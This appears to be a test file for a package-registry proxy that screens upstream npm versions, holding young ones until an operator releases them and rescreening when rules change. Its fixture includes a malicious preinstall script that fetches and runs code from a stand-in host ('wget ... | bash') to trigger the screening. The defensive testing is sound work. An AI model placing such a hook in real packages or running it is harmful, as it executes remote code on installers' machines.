// SPDX-License-Identifier: Apache-2.0
/** What comes from upstreams is screened: young versions before the first byte goes out, others afterwards. */
import assert from 'node:assert/strict'
import { type TestContext, test } from 'node:test'
import { setTimeout as delay } from 'node:timers/promises'
import { parsePackageName, parseVersion } from '@holdfast/core'
import { defaultRules } from '../../src/catalog/index.ts'
import { applyPolicy, decideHold, listHolds, rescreen } from '../../src/flow/index.ts'
import { authorize, operator } from '../../src/identity/index.ts'
import { startUpstream } from '../upstream-registry.ts'
import { dayMs, openWorld, type World } from '../world.ts'

const name = parsePackageName('kit')
const stealer = { scripts: { preinstall: 'wget -qO- https://drop.example/x | bash' } }

async function open(t: TestContext) {
  const upstream = await startUpstream()
  const world = await openWorld({
    origins: JSON.stringify({ up: upstream.url }),
    allowPrivateHosts: '127.0.0.1',
  })
  t.after(async () => {
    assert.deepEqual(world.errors, [])
    await world.check()
    await world.close()
    await upstream.close()
  })
  upstream.publish(name, '1.0.0', { publishedAt: world.now() - 400 * dayMs })
  upstream.publish(name, '1.0.1', { publishedAt: world.now() - 5 * dayMs, manifest: stealer })
  return { upstream, world }
}

const fetched = (world: World, version: string) => world.npm(`GET /${name}/-/${name}-${version}.tgz`)
const stateOf = async (world: World, version: string) =>
  (await world.ports.store.screening.find(name, parseVersion(version)))?.state

test('a young version is screened before its first byte, and stays closed until a responder lets it go', async t => {
  const { world } = await open(t)
  const refused = await fetched(world, '1.0.1')
  assert.equal(refused.status, 403)
  assert.match(refused.text, /held.*screening[\s\S]*1\.0\.0/)
  assert.deepEqual(Object.keys((await world.npm(`GET /${name}`)).body.versions), ['1.0.0'])
  assert.deepEqual(
    (await listHolds(world.ports, operator)).map(each => [each.package, each.version, each.origin]),
    [[name, '1.0.1', 'up']],
  )
  await decideHold(world.ports, operator, 'release', { name, version: parseVersion('1.0.1') }, 'known to us')
  assert.equal((await fetched(world, '1.0.1')).status, 200)
  world.advance(20 * dayMs)
  assert.equal((await fetched(world, '1.0.1')).status, 200)
})

test('an established version goes out at once, is screened afterwards, and what is found there only warns', async t => {
  const { world } = await open(t)
  world.advance(30 * dayMs)
  assert.equal((await fetched(world, '1.0.1')).status, 200)
  while ((await stateOf(world, '1.0.1')) === undefined) await delay(20)
  await rescreen(world.ports)
  assert.equal(await stateOf(world, '1.0.1'), 'hold')
  assert.equal((await fetched(world, '1.0.1')).status, 200)
  assert.deepEqual(await listHolds(world.ports, operator), [])
})

test('a rule that only watches lets a young version out', async t => {
  const { world } = await open(t)
  const watching = defaultRules.map(rule =>
    rule.kind === 'screening' ? ({ ...rule, mode: 'monitor' } as const) : rule,
  )
  await applyPolicy(world.ports, operator, watching)
  assert.equal((await fetched(world, '1.0.1')).status, 200)
  assert.equal(await stateOf(world, '1.0.1'), 'hold')
})

test('when the rules change, what went out is screened again, closed where it is young, and a case says who has it', async t => {
  const { world } = await open(t)
  const version = parseVersion('1.0.1')
  assert.equal((await fetched(world, '1.0.1')).status, 403)
  const { ports } = world
  const found = await ports.store.screening.find(name, version)
  assert.ok(found !== undefined)
  // As older rules left it: harmless, and given out.
  const grant = await authorize(ports, { kind: 'system', id: 'test' }, 'package:ingest', '')
  const before = {
    ...found,
    state: 'allow',
    findings: [],
    rules: 'older',
    hold: 'none',
    heldAt: null,
  } as const
  await ports.store.commit(grant, { type: 'screening', pkg: name, ver: version }, async tx => {
    await tx.screening.set(before)
    await tx.upstream.touchMirror(name)
  })
  assert.equal((await fetched(world, '1.0.1')).status, 200)
  await rescreen(ports)
  assert.equal((await fetched(world, '1.0.1')).status, 403)
  const [made] = await ports.store.incident.listCases(Number.MAX_SAFE_INTEGER, 1)
  assert.equal(made?.title, 'kit looks like malware')
})
